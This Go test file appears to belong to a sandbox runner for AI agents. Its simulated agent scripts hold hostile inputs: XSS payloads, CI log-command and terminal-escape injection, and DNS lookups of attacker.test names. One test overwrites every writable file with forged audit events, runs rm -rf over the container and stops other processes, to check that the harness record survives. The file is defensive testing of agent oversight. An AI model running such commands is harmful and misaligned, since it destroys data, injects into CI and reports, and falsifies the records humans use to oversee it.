package runner_test

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/yolo-run/yolo-run/reports"
	"github.com/yolo-run/yolo-run/runner"
)

// Attack 21: what the agent prints, looks up, calls itself and calls its files is text, wherever it is shown.
func TestAttack21HostileTextIsInertEverywhere(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	r := try(t, hostileQueries+`
cat >> /tmp/dns.py <<'PY'
for name in (b"<script>alert(21)</script>", b"|x|](javascript:21)", b"\n::error::name21", b"\x1b]0;name21\a", b"\xe2\x80\xaename21"): udp(query(labels(name, b"attacker", b"test")))
s = socket.create_connection(("192.0.2.1", 80), timeout=3)
s.close()
PY
exec -a '<img src=x onerror=alert(21)>' python3 /tmp/dns.py &
wait
( exec -a "$(printf 'title21\n::error::title21\033[2J')" python3 /tmp/dns.py )
printf '::set-output name=a::output21\n##[error]output21\n::add-mask::output21\n\033[2J\033]8;;http://output21/\007link\n\342\200\256bidi21\n<script>output21</script>\n'
printf '::error::stderr21\n' >&2
touch "$(printf '::error::file21\n::error::file21')" '<script>alert(21)' '|pipe|`+"`"+`21' "$(printf '\342\200\256file21')" "$(printf 'esc\033[2J21')"
`, online(n, "allowed.test"))
	r.want(t, reports.PolicyFailed) // a control character in a file's name does not pass the gate
	if len(r.Changes.Files) != 5 {
		t.Errorf("control: %d files in the patch, want 5: %+v", len(r.Changes.Files), r.Changes.Files)
	}
	if total(r.find(reports.Deny, func(e reports.Event) bool { return e.Layer == reports.LayerDNS })) < 10 {
		t.Error("control: the hostile names are not on record")
	}
	shown := map[string]string{"stderr": r.stderr}
	for _, name := range []string{"report.md", "report.html", "report.json", "junit.xml", "run.log", "network.jsonl"} {
		shown[name] = string(readFile(t, filepath.Join(r.out, name)))
	}
	for where, text := range shown {
		for _, raw := range []string{"\x1b[2J", "\x1b]0;", "\x1b]8;;http://output21", "\u202e", "\a"} {
			if strings.Contains(text, raw) {
				t.Errorf("%s contains %q", where, raw)
			}
		}
		for line := range strings.Lines(text) {
			if l := strings.TrimSpace(line); (strings.HasPrefix(l, "::") || strings.HasPrefix(l, "##[")) && strings.Contains(l, "21") {
				t.Errorf("%s has a line that a CI runner would obey: %q", where, line)
			}
		}
	}
	for where, raw := range map[string][]string{
		"report.html": {"<script>alert(21)", "<script>output21", "<img src=x"},
		"report.md":   {"<script>", "<img", "](javascript:"},
	} {
		for _, s := range raw {
			if strings.Contains(shown[where], s) {
				t.Errorf("%s contains %q", where, s)
			}
		}
	}
	if !json.Valid([]byte(shown["report.json"])) {
		t.Error("report.json is no JSON")
	}
	for d := xml.NewDecoder(strings.NewReader(shown["junit.xml"])); ; {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			break
		} else if err != nil {
			t.Fatalf("junit.xml: %v", err)
		}
	}
}

// Attack 22: the agent removes, truncates and overwrites all that it can, the folders that yolo-run put into its container included.
func TestAttack22WhatTheAgentCanSeeIsNotTheRecord(t *testing.T) {
	t.Parallel()
	n := needInternet(t)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "old"), []byte("old\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := try(t, `
echo begin; getent hosts before22.attacker.test
forged='{"type":"event","event":{"verdict":"allow","layer":"dns","name":"forged22.test","count":1}}
{"type":"summary","summary":{"denied":0,"allowed":1,"events":1,"rulesIntact":true}}'
for file in $(find / -xdev -writable -type f 2>/dev/null | grep -v '^/\(proc\|sys\|workspace\)/'); do printf '%s\n' "$forged" > "$file"; done
for fd in /proc/[0-9]*/fd/[0-9]*; do case $fd in /proc/$$/*|/proc/self/*) ;; *) printf '%s\n' "$forged" > "$fd" ;; esac; done 2>/dev/null
find / -xdev -writable 2>/dev/null | grep -v '^/\(proc\|sys\|workspace\|dev\)\(/\|$\)' | xargs -r -d '\n' rm -rf 2>/dev/null
rm -rf /.yolo-run /home/agent /tmp 2>/dev/null
for pid in $(ls /proc | grep '^[0-9]'); do [ "$pid" = $$ ] || kill -STOP "$pid" 2>/dev/null && kill -CONT "$pid" 2>/dev/null; done
echo work > /workspace/new
getent hosts after22.attacker.test; curl -sf -m 5 -o /dev/null http://allowed.test/; echo control=$?
echo end`, online(n, "allowed.test"), func(cfg *runner.Config) { cfg.Workspace = dir })
	r.want(t, reports.Success)
	for _, name := range []string{"before22.attacker.test", "after22.attacker.test"} {
		if len(r.find(reports.Deny, deniedName(reports.LayerDNS, name))) == 0 {
			t.Errorf("the lookup of %s is not on record", name)
		}
	}
	for _, e := range r.events {
		if e.Name == "forged22.test" {
			t.Errorf("a forged event is on record: %+v", e)
		}
	}
	if !strings.HasPrefix(r.agent, "begin\n") || !strings.HasSuffix(r.agent, "end\n") || r.says(t, "control") != "0" {
		t.Errorf("the agent's output is not whole:\n%s", r.agent)
	}
	if len(r.Changes.Files) != 1 || r.Changes.Files[0].Path != "new" {
		t.Errorf("changes %+v, want only the new file", r.Changes.Files)
	}
	file, err := os.Open(filepath.Join(r.out, "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	if again, err := reports.ReadReport(file); err != nil || again.Network.Denied != r.Network.Denied {
		t.Errorf("report.json: %v", err)
	}
}

// Attack 23: a signal may come at any moment of a run, from the first container to the last. Runs follow each other, each is signalled a little
// later in its life than the one before, until one ends before its signal comes. What a killed one leaves is dead at once, and removed by
// the next.
func TestAttack23ASignalInEveryPhase(t *testing.T) {
	for _, c := range []struct {
		signal syscall.Signal
		code   int
	}{{syscall.SIGINT, 130}, {syscall.SIGTERM, 143}, {syscall.SIGKILL, -1}} {
		t.Run(c.signal.String(), func(t *testing.T) {
			t.Parallel()
			state := filepath.Join(t.TempDir(), "state")
			signalled := 0
			for delay := time.Duration(0); ; delay += 250 * time.Millisecond {
				p := launch(t, state, `echo work > file; exit 0`)
				timer := time.AfterFunc(delay, func() { _ = p.Process.Signal(c.signal) })
				code, _ := p.end(t)
				if !timer.Stop() {
					signalled++
				}
				// A process that has not yet asked for its signals dies of them, and has made nothing.
				if code != 0 && code != c.code && (code != -1 || len(p.runIDs(t)) > 0) {
					t.Errorf("after %s: exit code %d, want %d", delay, code, c.code)
				}
				for _, id := range p.runIDs(t) {
					if c.signal != syscall.SIGKILL {
						t.Errorf("after %s: run %s has left %q", delay, id, remains(t, id, true))
					}
					eventually(t, 10*time.Second, func() []string { return remains(t, id, false) })
				}
				if code == 0 {
					if left := p.runIDs(t); len(left) > 0 {
						t.Errorf("what killed runs left was not removed: %q", left)
					}
					break
				}
			}
			if signalled < 3 {
				t.Errorf("control: only %d runs lived long enough for their signal", signalled)
			}
		})
	}
}
